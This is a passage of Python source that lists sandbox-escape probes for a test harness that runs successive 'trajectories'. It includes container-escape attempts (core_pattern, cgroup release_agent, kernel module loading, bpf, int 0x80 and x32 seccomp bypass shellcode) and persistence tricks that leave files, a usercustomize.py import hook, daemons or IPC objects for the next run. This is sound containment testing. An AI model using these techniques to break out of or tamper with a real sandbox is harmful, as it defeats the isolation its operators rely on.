            hits.append(family)
        except OSError:
            pass
judge(hits, f"families {sorted(set(hits))}" if hits else "none of them")
""",
        machine=("none",),
    ),
)

# ---- the kernel

_KERNEL = (
    Attack(
        name="new-user-namespace",
        tries="become root of a new user namespace",
        program="call('unshare', NEWUSER)\nwon('made one')",
        machine=("EPERM", "ENOSPC"),
    ),
    Attack(
        name="mount",
        tries="mount a filesystem",
        program="as_root(NEWNS)\ncall('mount', b'x', places[1].encode(), b'tmpfs', 0, None)\nwon('mounted')",
        machine=("EPERM", "EACCES"),
    ),
    Attack(
        name="chroot",
        tries="leave by chroot",
        program="as_root()\nos.chroot(places[1])\nwon('changed')",
        machine=("EPERM",),
    ),
    Attack(
        name="host-name",
        tries="change the host's name",
        program="as_root(NEWUTS)\nsocket.sethostname('attacked')\nwon('changed')",
        machine=("EPERM",),
    ),
    Attack(
        name="namespaced-settings",
        tries="change kernel settings of its namespaces, which a reset would not restore",
        program="""
as_root(NEWNET | NEWIPC)
paths = ("net/ipv4/ip_forward", "net/ipv4/ip_default_ttl", "kernel/shmmax", "kernel/msgmax", "kernel/domainname")
def change(path):
    value = open(path).read()
    open(path, "w").write(value)
    won(path)
first(*(lambda path=path: change(f"/proc/sys/{path}") for path in paths))
""",
        machine=("EACCES", "EPERM", "EROFS"),
    ),
    Attack(
        name="clock",
        tries="set the clock",
        program="time.clock_settime(time.CLOCK_REALTIME, time.time())\nwon('set')",
        bare="needs host root",
        refusals=("EPERM",),
    ),
    Attack(
        name="core-pattern",
        tries="have the kernel run a program as root at the next crash",
        program="open('/proc/sys/kernel/core_pattern', 'r+').close()\nwon('opened')",
        bare="needs host root",
        refusals=("EACCES", "EPERM", "EROFS"),
    ),
    Attack(
        name="sysrq",
        tries="restart the machine",
        program="open('/proc/sysrq-trigger', 'w').close()\nwon('opened')",
        bare="needs host root",
        refusals=("EACCES", "EPERM", "EROFS", "ENOENT"),
    ),
    Attack(
        name="kernel-messages",
        tries="write into the kernel's log",
        program="os.open('/dev/kmsg', os.O_WRONLY)\nwon('opened')",
        bare="needs host root",
        refusals=("ENOENT",),
    ),
    Attack(
        name="read-kernel-messages",
        tries="read the kernel's log",
        program="judge(call('klogctl', 3, ctypes.create_string_buffer(100), 100) > 0, 'its last words')",
        machine=("EPERM",),
    ),
    Attack(
        name="release-agent",
        tries="have the kernel run a program as root when a cgroup is empty",
        program="""
as_root(NEWNS)
call("mount", b"x", places[1].encode(), b"cgroup", 0, b"memory")
open(places[1] + "/release_agent", "r+").close()
won("opened")
""",
        bare="needs host root",
        refusals=("EACCES", "EPERM"),
    ),
    Attack(
        name="device-node",
        tries="make a device node of a disk",
        program="os.mknod('disk', 0o600 | stat.S_IFBLK, os.makedev(8, 0))\nwon('made')",
        bare="needs host root",
        refusals=("EPERM",),
    ),
    Attack(
        name="load-module",
        tries="load a kernel module",
        program="call('syscall', {'x86_64': 175, 'aarch64': 105}[os.uname().machine], 0, 0, b'')\nwon('loaded')",
        bare="needs host root",
        refusals=("EPERM", "ENOSYS"),
    ),
    Attack(
        name="sysfs",
        tries="look at the machine's devices",
        program="judge(os.listdir('/sys'), 'it is there')",
    ),
    Attack(
        name="devices",
        tries="find devices besides null, zero, full, random, urandom, tty and the terminals",
        program="""
usual = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "pts", "console"}
found = []
for name in sorted(set(os.listdir("/dev")) - usual):
    mode = os.stat("/dev/" + name).st_mode if os.path.exists("/dev/" + name) else 0
    if stat.S_ISCHR(mode) or stat.S_ISBLK(mode):
        found.append(name)
judge(found, found[:5] or "none others")
""",
        machine=("none",),
    ),
    Attack(
        name="keyring",
        tries="keep something in the kernel's keyring for whoever comes next",
        program="""
key = call("add_key", b"user", bait["abstract"].encode(), b"x", 1, -5)
call("keyctl", 9, key, -5)
won("kept a key")
""",
        machine=("ENOSYS", "EPERM"),
    ),
    Attack(
        name="io-uring",
        tries="make calls past the filter, with io_uring",
        program="call('io_uring_setup', 4, ctypes.create_string_buffer(120))\nwon('set up')",
        machine=("ENOSYS", "EPERM"),
    ),
    Attack(
        name="userfaultfd",
        tries="stop the kernel in mid-copy, with userfaultfd",
        program="call('userfaultfd', 1)\nwon('made one')",
        machine=("ENOSYS", "EPERM"),
    ),
    Attack(
        name="bpf",
        tries="load a program into the kernel",
        program="call('bpf', 0, struct.pack('5I', 2, 4, 4, 1, 0) + bytes(100), 72)\nwon('made a map')",
        machine=("ENOSYS", "EPERM"),
    ),
    Attack(
        name="perf-events",
        tries="watch the machine's counters",
        program="call('perf_event_open', struct.pack('IIQ', 1, 112, 0) + bytes(96), 0, -1, -1, 0)\nwon('opened')",
        machine=("ENOSYS", "EPERM", "EACCES", "ENOENT"),
    ),
    Attack(
        name="other-architecture",
        tries="make calls past the filter, by 32-bit numbers",
        program="""
if os.uname().machine != "x86_64":
    lost("none but x86_64 has them")
elif (pid := os.fork()) == 0:
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(bytes.fromhex("53b814000000cd805bc3"))  # push rbx; mov eax, 20 (getpid); int 0x80; pop rbx; ret
    number = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    os._exit(42 if number == os.getpid() else 1)
else:
    status = os.waitstatus_to_exitcode(os.wait()[1])
    judge(status == 42, "getpid by int 0x80" if status == 42 else f"none: ended by {status}")
""",
        machine=("none",),
    ),
    Attack(
        name="x32-calls",
        tries="make calls past the filter, by x32 numbers",
        program="""
if os.uname().machine != "x86_64":
    raise OSError(errno.ENOSYS, "x86_64 alone has them")
judge(call("syscall", 0x40000000 + 39) > 0, "getpid")
""",
        machine=("ENOSYS",),
    ),
)

# ---- from one trajectory to the next

_LEFT = (
    Attack(
        name="leave-files",
        tries="leave files to the next trajectory",
        program="""
for place in places:
    open(f"{place}/.left", "w").close()
lost("left")
""",
        after="found = [place for place in places if os.path.exists(place + '/.left')]\njudge(found, found)",
    ),
    Attack(
        name="leave-locked-folder",
        tries="leave a folder that can't be looked into",
        program="os.makedirs('locked/in')\nos.chmod('locked', 0)\nlost('left')",
        after="found = os.path.exists('locked')\nfound and os.chmod('locked', 0o700)\njudge(found, found)",
    ),
    Attack(
        name="leave-deep-folder",
        tries="leave a tree that is too deep to be removed",
        program="for _ in range(400): os.mkdir('d'); os.chdir('d')\nlost('left')",
        after="judge(os.path.exists('d'), os.listdir('.'))",
    ),
    Attack(
        name="leave-odd-names",
        tries="leave files whose names are no text",
        program="""
for name in (b"-rf", b"a\\nb", b"\\xff\\xfe", b"n" * 255, b"*", b" "):
    os.close(os.open(name, os.O_CREAT, 0o600))
lost("left")
""",
        after="judge(len(os.listdir(b'.')) > 5, os.listdir(b'.')[:2])",
    ),
    Attack(
        name="leave-attribute",
        tries="leave a note in an attribute of the work folder",
        program="os.setxattr(places[0], 'user.note', b'1')\nlost('left')",
        after="judge('user.note' in os.listxattr(places[0]), os.listxattr(places[0]))",
        machine=("ENOTSUP", "EOPNOTSUPP", "[]"),
    ),
    Attack(
        name="leave-mode-and-time",
        tries="leave a note in the mode and time of a folder",
        program="os.chmod(places[1], 0o751)\nos.utime(places[1], (12345, 12345))\nlost('left')",
        after="""
info = os.stat(places[1])
judge(stat.S_IMODE(info.st_mode) == 0o751 or info.st_mtime == 12345, f"{oct(info.st_mode)} {info.st_mtime}")
""",
    ),
    Attack(
        name="leave-python-module",
        tries="have the next trajectory's Python import something",
        program="""
import site
folder = site.getusersitepackages()
os.makedirs(folder, exist_ok=True)
open(folder + "/usercustomize.py", "w").write("import builtins; builtins.attacked = True")
lost("left")
""",
        after="import builtins\njudge(hasattr(builtins, 'attacked'), 'imported')",
    ),
    Attack(
        name="leave-process",
        tries="have a daemon listen for the next trajectory",
        program="""
if os.fork() == 0:
    background()
    door = socket.socket(socket.AF_UNIX)
    door.bind("\\0left-" + bait["abstract"])
    door.listen()
    time.sleep(8)
time.sleep(0.5)
lost("left")
""",
        after="socket.socket(socket.AF_UNIX).connect('\\0left-' + bait['abstract'])\nwon('connected')",
    ),
    Attack(
        name="leave-segment",
        tries="leave a System V segment",
        program="call('shmget', int(token[:7], 16) | 1, 4096, 0o1600)\nlost('left')",
        after="""
number = call("shmget", int(token[:7], 16) | 1, 4096, 0)
call("shmctl", number, 0, 0)
won("found it")
""",
    ),
    Attack(
        name="leave-semaphore",
        tries="leave a System V semaphore",
        program="call('semget', int(token[:7], 16) | 1, 1, 0o1600)\nlost('left')",
        after="""
number = call("semget", int(token[:7], 16) | 1, 1, 0)
call("semctl", number, 0, 0)
won("found it")
""",
    ),
    Attack(
        name="leave-message-queue",
        tries="leave a System V message queue",
        program="call('msgget', int(token[:7], 16) | 1, 0o1600)\nlost('left')",
        after="""
number = call("msgget", int(token[:7], 16) | 1, 0)
call("msgctl", number, 0, 0)
won("found it")
""",
    ),
    Attack(
        name="leave-posix-queue",
        tries="leave a POSIX message queue",
        program="call('mq_open', bait['abstract'].encode(), os.O_RDWR | os.O_CREAT, 0o600, 0)\nlost('left')",
        after="""
call("mq_open", bait["abstract"].encode(), os.O_RDWR, 0, 0)
libc.mq_unlink(b"/" + bait["abstract"].encode())
won("found it")
""",
        machine=("ENOSYS", "EMFILE"),
    ),
    Attack(
        name="leave-priority",
        tries="leave the next trajectory a runner with a lower priority",
        program="os.setpriority(os.PRIO_PROCESS, runner, 10)\nlost('left')",
        after="judge(os.nice(0) == 10, f'nice {os.nice(0)}')",
    ),
    Attack(
        name="leave-scheduling",
        tries="leave it one that runs as a batch job",
        program="os.sched_setscheduler(runner, os.SCHED_BATCH, os.sched_param(0))\nlost('left')",
        after="judge(os.sched_getscheduler(0) == os.SCHED_BATCH, os.sched_getscheduler(0))",
    ),
    Attack(
        name="leave-limits",
        tries="leave it one with lower limits",
        program="resource.prlimit(runner, resource.RLIMIT_NOFILE, (77, 77))\nlost('left')",
        after="limits = resource.getrlimit(resource.RLIMIT_NOFILE)\njudge(limits == (77, 77), limits)",
    ),
    Attack(
        name="leave-oom-score",
        tries="leave it one that the out-of-memory killer takes first",
        program="open(f'/proc/{runner}/oom_score_adj', 'w').write('999')\nlost('left')",
        after="score = open('/proc/self/oom_score_adj').read()\njudge(score == '999\\n', score)",
    ),
)

ATTACKS: tuple[Attack, ...] = (*_RUNNER, *_AMOUNTS, *_BOMBS, *_FILES, *_HOST, *_NETWORK, *_KERNEL, *_LEFT)


def named(names: Collection[str]) -> tuple[Attack, ...]:
    """The attacks of these names, all where there are none. Raises ConfigError for a name that is nobody's."""
    known = [attack.name for attack in ATTACKS]
    for name in names:
        if name not in known:
            near = difflib.get_close_matches(name, known, 1) or known
            raise ConfigError(f"no attack {name!r}; did you mean {near[0]!r}?")
    return tuple(attack for attack in ATTACKS if not names or attack.name in names)
